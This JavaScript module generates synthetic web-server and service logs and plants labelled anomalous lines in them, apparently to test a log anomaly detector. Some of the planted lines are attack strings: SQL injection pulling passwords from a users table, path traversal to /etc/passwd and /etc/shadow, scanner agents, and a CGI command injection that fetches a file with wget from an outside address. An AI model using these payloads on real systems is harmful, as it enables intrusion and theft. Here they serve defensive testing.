/** Logs of two kinds that are made up line by line, and ten kinds of lines that do not belong into each. */

/** A random source with a seed (mulberry32) */
export class Random {
  constructor(seed) {
    this.state = seed >>> 0;
  }

  /** A number from 0 to below 1 */
  real() {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let x = this.state;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 2 ** 32;
  }

  integer(from, to) {
    return from + Math.floor(this.real() * (to - from + 1));
  }

  /** One of a list: the earlier ones are more frequent */
  one(list) {
    return list[Math.floor(this.real() ** 2 * list.length)];
  }

  any(list) {
    return list[Math.floor(this.real() * list.length)];
  }

  word(alphabet, length) {
    return Array.from({ length }, () => this.any(alphabet)).join('');
  }
}

const letters = [...'abcdefghijklmnopqrstuvwxyz'];
const hex = [...'0123456789abcdef'];
const base64 = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'];
const two = (x) => String(x).padStart(2, '0');

function clock(seconds) {
  const day = seconds % 86_400;
  return [Math.floor(day / 3600), Math.floor((day % 3600) / 60), Math.floor(day % 60)]
    .map(two)
    .join(':');
}

// --- the access log of a web server ---

const pages = [
  '/',
  '/products',
  '/cart',
  '/login',
  '/search',
  '/about',
  '/checkout',
  '/account',
  '/help',
];
const assets = [
  '/static/app.js',
  '/static/style.css',
  '/img/logo.png',
  '/favicon.ico',
  '/fonts/inter.woff2',
];
const terms = ['shoes', 'red+dress', 'lamp', 'coffee', 'garden+chair', 'notebook', 'rain+jacket'];
const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Version/17.4 Mobile Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Googlebot/2.1 (+http://www.google.com/bot.html)',
];

function address(random) {
  return `${random.any([10, 81, 93, 172, 203])}.${random.integer(0, 255)}.${random.integer(0, 255)}.${random.integer(1, 254)}`;
}

function accessLine(random, seconds, { request, status, agent } = {}) {
  const url = () => {
    const kind = random.real();
    if (kind < 0.35) return random.one(assets);
    if (kind < 0.5) return `/products/${random.integer(1000, 9999)}`;
    if (kind < 0.6) return `/search?q=${random.one(terms)}&page=${random.integer(1, 9)}`;
    return random.one(pages);
  };
  const method = random.real() < 0.1 ? 'POST' : 'GET';
  const asked = request ?? `${method} ${url()} HTTP/1.1`;
  const code = status ?? random.one([200, 200, 304, 302, 404]);
  return `${address(random)} - - [14/May/2024:${clock(seconds)} +0000] "${asked}" ${code} ${random.integer(200, 48_000)} "${agent ?? random.one(agents)}"`;
}

const accessOdd = {
  'SQL injection': (r, s) =>
    accessLine(r, s, {
      request: `GET /products/${r.integer(1000, 9999)}?id=1%27%20UNION%20SELECT%20${r.word(letters, 6)},password%20FROM%20users--%20 HTTP/1.1`,
    }),
  'path traversal': (r, s) =>
    accessLine(r, s, {
      request: `GET /static/${'../'.repeat(r.integer(4, 8))}etc/${r.any(['passwd', 'shadow', 'hosts'])} HTTP/1.1`,
      status: 403,
    }),
  'scanner agent': (r, s) =>
    accessLine(r, s, {
      agent: `${r.any(['sqlmap', 'Nikto', 'masscan', 'zgrab'])}/${r.integer(1, 9)}.${r.integer(0, 99)}`,
    }),
  'other method': (r, s) =>
    accessLine(r, s, {
      request: `${r.any(['PROPFIND', 'TRACE', 'CONNECT', 'DELETE'])} /${r.word(letters, 8)} HTTP/1.1`,
      status: 405,
    }),
  'shell command': (r, s) =>
    accessLine(r, s, {
      request: `GET /cgi-bin/${r.word(letters, 5)}.sh?;wget%20http://${address(r)}/${r.word(letters, 4)};chmod%20777 HTTP/1.1`,
    }),
  'binary request': (r, s) =>
    accessLine(r, s, {
      request: Array.from({ length: r.integer(12, 30) }, () => `\\x${r.word(hex, 2)}`).join(''),
      status: 400,
    }),
  'encoded payload': (r, s) =>
    accessLine(r, s, { request: `POST /login?token=${r.word(base64, 60)} HTTP/1.1` }),
  'error in between': (r, s) =>
    `2024/05/14 ${clock(s)} [error] ${r.integer(100, 999)}#0: *${r.integer(1000, 9999)} upstream timed out (110: Connection timed out) while reading response header`,
  'stack trace': (r) =>
    `    at ${r.any(['java.base/java.util', 'org.apache.catalina.core', 'com.shop.cart'])}.${r.word(letters, 9)}(${r.word(letters, 7)}.java:${r.integer(20, 900)})`,
  'another server': (r, s) =>
    `<134>May 14 ${clock(s)} fw-${r.integer(1, 9)} kernel: DROP IN=eth0 OUT= SRC=${address(r)} DST=${address(r)} PROTO=TCP DPT=${r.any([22, 23, 3389])}`,
};

// --- the log of a service, in pairs of key and value ---

const users = ['anna', 'bert', 'carla', 'dmitri', 'eve', 'farid', 'gosia', 'hiro'];
const jobs = ['invoice', 'newsletter', 'backup', 'thumbnail', 'export'];
const tables = ['orders', 'customers', 'sessions', 'stock'];

const events = [
  (r) =>
    `level=info component=api msg="request done" user=${r.one(users)} ms=${r.integer(2, 400)} status=200`,
  (r) =>
    `level=info component=queue msg="job finished" job=${r.one(jobs)} id=${r.word(hex, 8)} ms=${r.integer(20, 9000)}`,
  (r) =>
    `level=debug component=db msg="query" table=${r.one(tables)} rows=${r.integer(0, 500)} ms=${r.integer(1, 60)}`,
  (r) =>
    `level=info component=auth msg="login" user=${r.one(users)} method=${r.one(['password', 'sso', 'key'])}`,
  (r) =>
    `level=info component=cache msg="evicted" entries=${r.integer(1, 900)} free_mb=${r.integer(100, 900)}`,
  (r) =>
    `level=warn component=api msg="slow request" user=${r.one(users)} ms=${r.integer(1000, 4000)} status=200`,
  (r) =>
    `level=info component=health msg="alive" cpu=${r.integer(1, 60)} memory_mb=${r.integer(300, 800)} open_files=${r.integer(40, 200)}`,
];

function serviceLine(random, seconds, event = random.one(events)(random)) {
  return `2024-05-14T${clock(seconds)}.${String(random.integer(0, 999)).padStart(3, '0')}Z host=app-${random.integer(1, 4)} pid=${random.integer(800, 840)} ${event}`;
}

const serviceOdd = {
  panic: (r, s) =>
    serviceLine(
      r,
      s,
      `level=fatal component=db msg="panic: runtime error: index out of range [${r.integer(5, 90)}]" goroutine=${r.integer(1, 400)}`,
    ),
  'disk full': (r, s) =>
    serviceLine(
      r,
      s,
      `level=error component=queue msg="write failed" path=/var/spool/${r.one(jobs)} error="no space left on device"`,
    ),
  'failed logins': (r, s) =>
    serviceLine(
      r,
      s,
      `level=warn component=auth msg="invalid password" user=${r.any(['root', 'admin', 'oracle', 'test'])} from=${address(r)} attempts=${r.integer(10, 99)}`,
    ),
  'unknown component': (r, s) =>
    serviceLine(
      r,
      s,
      `level=info component=${r.word(letters, 7)} msg="connected to pool" wallet=${r.word(base64, 24)}`,
    ),
  'dumped secret': (r, s) =>
    serviceLine(
      r,
      s,
      `level=debug component=api msg="config" AWS_SECRET_ACCESS_KEY=${r.word(base64, 40)}`,
    ),
  certificate: (r, s) =>
    serviceLine(
      r,
      s,
      `level=error component=api msg="x509: certificate has expired or is not yet valid" peer=${address(r)}:443`,
    ),
  'stack trace': (r) =>
    `\tmain.(*Server).${r.word(letters, 8)}(0x${r.word(hex, 10)}) /src/server/${r.word(letters, 6)}.go:${r.integer(10, 900)} +0x${r.word(hex, 3)}`,
  'database deadlock': (r, s) =>
    serviceLine(
      r,
      s,
      `level=error component=db msg="deadlock detected" table=${r.one(tables)} waiting_for=${r.integer(100, 999)} query="UPDATE ${r.one(tables)} SET state = 'done'"`,
    ),
  'another language': (r, s) =>
    serviceLine(
      r,
      s,
      `level=error component=api msg="${r.any(['Verbindung wurde vom Gegenüber zurückgesetzt', 'Permiso denegado al abrir el archivo', 'périphérique ou ressource occupé'])}"`,
    ),
  'lines run together': (r, s) => {
    const cut = serviceLine(r, s).slice(0, r.integer(45, 70));
    return `${cut}${serviceLine(r, s)}`;
  },
};

export const kinds = {
  access: { line: accessLine, odd: accessOdd },
  service: { line: serviceLine, odd: serviceOdd },
};

/** @returns the lines of a day, of one kind */
export function normalLog(kind, count, seed) {
  const random = new Random(seed);
  return Array.from({ length: count }, (_, i) => kinds[kind].line(random, (i / count) * 86_400));
}

/**
 * Puts odd lines into a log, as many of each sort, at random places.
 * @returns the lines, and the sort of each odd one by its number, from 1 on
 */
export function withOddLines(kind, count, each, seed) {
  const lines = normalLog(kind, count, seed);
  const random = new Random(seed + 1);
  const planted = new Map();
  for (const [sort, make] of Object.entries(kinds[kind].odd)) {
    for (let k = 0; k < each; ) {
      const at = random.integer(0, count - 1);
      if (planted.has(at + 1)) continue;
      lines[at] = make(random, (at / count) * 86_400);
      planted.set(at + 1, sort);
      k++;
    }
  }
  return { lines, planted };
}
